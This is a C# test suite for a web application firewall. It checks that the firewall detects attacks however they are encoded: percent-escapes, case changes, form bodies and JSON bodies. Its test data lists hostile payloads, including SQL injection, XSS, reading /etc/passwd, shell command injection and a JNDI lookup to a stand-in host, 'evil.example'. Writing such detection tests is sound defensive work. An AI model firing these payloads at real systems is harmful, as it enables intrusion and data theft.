using System.Text;
using CsCheck;
using static GitGateway.Proxy.Tests.Policies.Waf.WafRequests;

namespace GitGateway.Proxy.Tests.Policies.Waf;

/// <summary>
/// The WAF cannot be talked past by the way a value is written: an attack it finds as a plain query argument it
/// finds however the client encodes the same value where that encoding is legal (percent-escapes of any byte in
/// either hex case, '+' for space, a form body, a JSON string with \u escapes, nested JSON). And hostile bytes in a
/// form or JSON body never throw out of the inspection and are replayed to the backend unchanged.
/// </summary>
public sealed class WafEvasionTests
{
    /// <summary>Each attack as the backend would decode it, with the rule that names it.</summary>
    public static readonly TheoryData<string, int> Attacks = new()
    {
        { "1' OR '1'='1", 150100 },
        { "x' UNION ALL SELECT password FROM users--", 150110 },
        { "1; DROP TABLE users", 150120 },
        { "1 AND SLEEP(5)", 150130 },
        { "admin'--", 150140 },
        { "<script>alert(1)</script>", 140100 },
        { "<img src=x onerror=alert(1)>", 140110 },
        { "javascript:alert(document.domain)", 140120 },
        { "../../etc/passwd", 120100 },
        { "127.0.0.1;cat /etc/passwd", 130100 },
        { "$(whoami)", 130100 },
        { "${jndi:ldap://evil.example/a}", 130120 },
        { "<?php system('id'); ?>", 130140 },
    };

    private static readonly (string Value, int Rule)[] AttackList = [.. Attacks.Select(a => (a.Data.Item1, a.Data.Item2))];

    [Theory]
    [MemberData(nameof(Attacks))]
    public async Task Inspect_AttackWrittenAnyLegalWay_MatchesItsRuleEveryTime(string attack, int rule)
    {
        foreach (var (how, context) in Written(attack))
        {
            var (rules, _) = await InspectAsync(context);

            Assert.True(rules.Contains(rule), $"{how}: rule {rule} not matched (matched: {string.Join(", ", rules)})");
        }
    }

    [Theory]
    [MemberData(nameof(Attacks))]
    public async Task Inspect_AttackRewrittenTheWayItsInterpreterReadsAlike_MatchesItsRule(string attack, int rule)
    {
        // SQL and HTML read keywords in any case and any whitespace (SQL also a comment) as a separator.
        if (rule / 10_000 is not (15 or 14))
        {
            return;
        }

        string[] separators = rule / 10_000 == 15 ? ["\t", "\n", "/**/", "  "] : ["\t", "\n", "  "];
        var variants = separators.Select(sep => attack.Replace(" ", sep, StringComparison.Ordinal))
            .Append(string.Concat(attack.Select((c, i) => i % 2 == 0 ? char.ToUpperInvariant(c) : char.ToLowerInvariant(c))));
        foreach (var variant in variants)
        {
            var (rules, _) = await InspectAsync(Get("/items?q=" + Uri.EscapeDataString(variant)));

            Assert.True(rules.Contains(rule), $"{variant.ReplaceLineEndings("\\n")}: rule {rule} not matched (matched: {string.Join(", ", rules)})");
        }
    }

    [Fact]
    public async Task Inspect_AttackWithAnyBytesPercentEscaped_MatchesItsRule() =>
        await Gen.Select(Gen.Int[0, AttackList.Length - 1], Gen.Bool.Array[64], Gen.Bool).SampleAsync(
            async t =>
            {
                var (attack, rule) = AttackList[t.Item1];
                var target = "/items?q=" + Escape(attack, i => t.Item2[i % 64], lowerHex: t.Item3);

                var (rules, _) = await InspectAsync(Get(target));

                Assert.True(rules.Contains(rule), $"{target}: rule {rule} not matched");
            },
            iter: 2_000);

    [Fact]
    public async Task Inspect_HostileBodies_NeverThrowAndAreReplayedUnchanged() =>
        await Gen.Select(Gen.Int[0, 2], Gen.Byte.Array[0, 512], Gen.String[Gen.Char[' ', '~'], 0, 64]).SampleAsync(
            async t =>
            {
                var (kind, body, query) = t;
                var contentType = kind switch { 0 => "application/json", 1 => "application/x-www-form-urlencoded", _ => "application/problem+json; charset=utf-8" };
                var context = Post("/items?" + Uri.EscapeDataString(query).Replace("%26", "&", StringComparison.Ordinal), contentType, body);

                _ = await InspectAsync(context);

                using var replayed = new MemoryStream();
                await context.Request.Body.CopyToAsync(replayed, TestContext.Current.CancellationToken);
                Assert.Equal(body, replayed.ToArray());
            },
            iter: 3_000);

    /// <summary>The attack as the value of argument 'q', written in each legal way.</summary>
    private static IEnumerable<(string How, Microsoft.AspNetCore.Http.DefaultHttpContext Context)> Written(string attack)
    {
        yield return ("query, minimal escapes", Get("/items?q=" + Uri.EscapeDataString(attack)));
        yield return ("query, every byte escaped", Get("/items?q=" + Escape(attack, _ => true, lowerHex: false)));
        yield return ("query, every byte escaped, lower-case hex", Get("/items?q=" + Escape(attack, _ => true, lowerHex: true)));
        yield return ("query, '+' for space", Get("/items?q=" + Uri.EscapeDataString(attack).Replace("%20", "+", StringComparison.Ordinal)));
        yield return ("form body", Post("/items", "application/x-www-form-urlencoded", "a=1&q=" + Uri.EscapeDataString(attack)));
        yield return ("form body, every byte escaped", Post("/items", "application/x-www-form-urlencoded", "q=" + Escape(attack, _ => true, lowerHex: true)));
        yield return ("JSON body", Post("/items", "application/json", System.Text.Json.JsonSerializer.Serialize(new { q = attack })));
        yield return ("JSON body, every character \\u-escaped", Post("/items", "application/json", "{\"q\":\"" + string.Concat(attack.Select(c => $"\\u{(int)c:x4}")) + "\"}"));
        yield return ("JSON body, nested", Post("/items", "application/vnd.api+json", "{\"data\":[{\"attributes\":{\"q\":" + System.Text.Json.JsonSerializer.Serialize(attack) + "}}]}"));
        yield return ("JSON body, as a key", Post("/items", "application/json", "{" + System.Text.Json.JsonSerializer.Serialize(attack) + ":1}"));
    }

    /// <summary>Percent-escapes the UTF-8 bytes <paramref name="escape"/> picks (by byte index); '&amp;', '=', '%', '+' and '#' always.</summary>
    private static string Escape(string value, Func<int, bool> escape, bool lowerHex)
    {
        var text = new StringBuilder();
        var bytes = Encoding.UTF8.GetBytes(value);
        for (var i = 0; i < bytes.Length; i++)
        {
            var b = bytes[i];
            var must = b is (byte)'&' or (byte)'=' or (byte)'%' or (byte)'+' or (byte)'#' or (byte)' ' or >= 0x80 or < 0x20;
            text.Append(must || escape(i) ? "%" + b.ToString(lowerHex ? "x2" : "X2", System.Globalization.CultureInfo.InvariantCulture) : ((char)b).ToString());
        }

        return text.ToString();
    }
}
